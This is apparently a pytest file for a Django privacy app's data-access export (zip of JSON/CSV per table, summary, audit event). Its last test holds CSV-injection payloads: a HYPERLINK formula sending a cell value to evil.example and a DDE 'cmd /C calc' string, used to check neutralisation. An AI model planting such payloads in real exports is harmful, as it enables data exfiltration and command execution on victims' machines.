"""The access / portability export: a zip with JSON and CSV per table and a summary."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile

import pytest
from django.utils import timezone

from privacy import registry
from privacy.models import AuditEvent, DataCategory, Interaction
from privacy.services import contact_create, contact_erase, contact_export
from privacy.tests.factories import CustomerFactory, InteractionFactory, UserFactory

pytestmark = pytest.mark.django_db

NOTES = 'First line, with a comma\nSecond line "quoted"\r\nThird line; ü ñ 漢字\n'


def _export(contact, actor=None) -> tuple[zipfile.ZipFile, dict[str, int]]:
    buffer = io.BytesIO()
    counts = contact_export(actor=actor, contact=contact, destination=buffer)
    buffer.seek(0)
    return zipfile.ZipFile(buffer), counts


def _csv_rows(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    text = archive.read(name).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def person():
    customer = CustomerFactory(name="Acme Calls Ltd")
    contact, _ = contact_create(
        actor=None,
        customer=customer,
        emails=["Ada.L@Example.org", "ada@work.example.com"],
        phones=["(415) 555-1098", "305-555-1823 x51"],
        first_name="Ada",
        last_name="Lovelace",
        notes=NOTES,
        date_of_birth=dt.date(1990, 12, 10),
    )
    InteractionFactory(contact=contact, channel="sms", body='Line one\nLine two, "quoted"')
    InteractionFactory(
        contact=contact, channel="web_form", ip_address="203.0.113.9", user_agent="UA/1.0"
    )
    InteractionFactory(contact=contact, channel="call", duration_seconds=42, recording_ref="r-1")
    # Someone else's data must not end up in Ada's package.
    other, _ = contact_create(
        actor=None, customer=customer, emails=["grace@example.org"], first_name="Grace"
    )
    InteractionFactory(contact=other, body="Grace's private message")
    return contact


def test_package_has_json_and_csv_for_every_table_of_every_provider_and_a_summary(person):
    archive, counts = _export(person)
    names = set(archive.namelist())

    assert "SUMMARY.txt" in names
    expected_tables = {
        f"{provider.key}/{table.name}"
        for provider in registry.providers()
        for table in provider.collect(person)
    }
    assert set(counts) == expected_tables
    assert {
        "privacy.contact/profile",
        "privacy.contact/identifiers",
        "privacy.interaction/interactions",
    } <= expected_tables
    assert names == {f"{t}.json" for t in expected_tables} | {
        f"{t}.csv" for t in expected_tables
    } | {"SUMMARY.txt"}

    for table, count in counts.items():
        rows = json.loads(archive.read(f"{table}.json"))
        assert isinstance(rows, list) and len(rows) == count
        assert len(_csv_rows(archive, f"{table}.csv")) == count

    assert counts["privacy.contact/profile"] == 1
    assert counts["privacy.contact/identifiers"] == 4
    assert counts["privacy.interaction/interactions"] == 3


def test_exported_values_are_the_persons_own_and_round_trip(person):
    archive, _ = _export(person)

    profile = json.loads(archive.read("privacy.contact/profile.json"))[0]
    assert profile["first_name"] == "Ada"
    assert profile["email"] == "Ada.L@example.org"
    assert profile["date_of_birth"] == "1990-12-10"
    assert profile["customer"] == "Acme Calls Ltd"
    assert profile["notes"] == NOTES

    csv_profile = _csv_rows(archive, "privacy.contact/profile.csv")[0]
    assert csv_profile["notes"] == NOTES  # multi-line, quotes, commas and non-ASCII survive
    assert csv_profile["first_name"] == "Ada"
    assert csv_profile["date_of_birth"] == "1990-12-10"

    identifiers = json.loads(archive.read("privacy.contact/identifiers.json"))
    assert {(i["kind"], i["value"], i["extension"]) for i in identifiers} == {
        ("email", "Ada.L@example.org", None),
        ("email", "ada@work.example.com", None),
        ("phone", "+14155551098", None),
        ("phone", "+13055551823", "51"),
    }

    interactions = _csv_rows(archive, "privacy.interaction/interactions.csv")
    assert {row["body"] for row in interactions} >= {'Line one\nLine two, "quoted"'}
    assert {row["ip_address"] for row in interactions} >= {"203.0.113.9"}
    everything = b"".join(archive.read(n) for n in archive.namelist())
    assert b"Grace" not in everything and b"grace@example.org" not in everything


def test_summary_explains_the_record_of_processing(person):
    archive, counts = _export(person)
    summary = archive.read("SUMMARY.txt").decode("utf-8")

    categories = list(DataCategory.objects.all())
    assert len(categories) >= 9
    for category in categories:
        assert category.name in summary
        assert category.purposes in summary
        assert category.get_legal_basis_display() in summary
        assert category.recipients in summary
        assert category.retention in summary
    for table, count in counts.items():
        assert f"- {table}: {count} record(s)" in summary


def test_a_long_history_is_streamed_into_the_package(person):
    start = timezone.now() - dt.timedelta(days=400)
    Interaction.objects.bulk_create(
        [
            Interaction(
                contact=person,
                customer=person.customer,
                channel="sms",
                direction="inbound",
                occurred_at=start + dt.timedelta(minutes=i),
                from_number="+14155551098",
                body=f"message {i}\nsecond line, {i}",
            )
            for i in range(10_000)
        ],
        batch_size=2000,
    )

    archive, counts = _export(person)

    assert counts["privacy.interaction/interactions"] == 10_003
    rows = json.loads(archive.read("privacy.interaction/interactions.json"))
    assert len(rows) == 10_003
    csv_rows = _csv_rows(archive, "privacy.interaction/interactions.csv")
    assert len(csv_rows) == 10_003
    bodies = {row["body"] for row in csv_rows}
    assert "message 0\nsecond line, 0" in bodies and "message 9999\nsecond line, 9999" in bodies
    # Newest first, like the contact page.
    assert [r["occurred_at"] for r in rows] == sorted(
        (r["occurred_at"] for r in rows), reverse=True
    )


def test_export_writes_its_audit_event(person):
    officer = UserFactory(role="Privacy officer")
    before = AuditEvent.objects.count()

    _, counts = _export(person, actor=officer)

    assert AuditEvent.objects.count() == before + 1
    event = AuditEvent.objects.get(action="contact.exported")
    assert (event.actor_id, event.object_id) == (officer.pk, str(person.pk))
    assert event.summary == {"tables": counts, "via": "staff"}


def test_an_erased_contact_cannot_be_exported(person):
    # The caller still holds the instance it loaded before the erasure.
    contact_erase(actor=None, contact=person)
    before = AuditEvent.objects.count()

    with pytest.raises(ValueError, match="erased"):
        _export(person)

    assert AuditEvent.objects.count() == before


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_csv_cells_that_would_run_as_formulas_are_neutralised_json_keeps_them(person):
    """CSV injection (OWASP): a value starting with = + - @ tab or CR is a formula to a
    spreadsheet. The CSV gets a leading quote; the JSON keeps what the person typed."""
    Interaction.objects.filter(contact=person).update(body="+1+cmd|' /C calc'!A0")
    type(person).objects.filter(pk=person.pk).update(
        first_name=FORMULA, last_name="@SUM(1+1)", notes="-2+3", state="\tX"
    )
    archive, _ = _export(person)

    profile = json.loads(archive.read("privacy.contact/profile.json"))[0]
    assert (profile["first_name"], profile["last_name"], profile["notes"]) == (
        FORMULA,
        "@SUM(1+1)",
        "-2+3",
    )
    csv_profile = _csv_rows(archive, "privacy.contact/profile.csv")[0]
    assert csv_profile["first_name"] == "'" + FORMULA
    assert csv_profile["last_name"] == "'@SUM(1+1)"
    assert csv_profile["notes"] == "'-2+3"
    assert csv_profile["state"] == "'\tX"
    assert csv_profile["date_of_birth"] == "1990-12-10"  # not text a person typed: as is
    bodies = {row["body"] for row in _csv_rows(archive, "privacy.interaction/interactions.csv")}
    assert "'+1+cmd|' /C calc'!A0" in bodies
    assert "+1+cmd|' /C calc'!A0" in {
        row["body"] for row in json.loads(archive.read("privacy.interaction/interactions.json"))
    }
